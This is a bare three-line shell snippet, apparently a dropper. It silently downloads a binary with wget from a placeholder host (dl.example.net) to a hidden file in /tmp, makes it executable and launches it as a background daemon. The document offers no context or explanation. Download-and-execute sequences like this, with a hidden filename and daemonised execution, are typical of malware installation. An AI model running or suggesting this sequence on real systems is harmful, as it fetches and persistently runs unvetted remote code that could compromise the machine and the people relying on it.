wget -q https://dl.example.net/agent -O /tmp/.agent
chmod 755 /tmp/.agent
/tmp/.agent --daemon
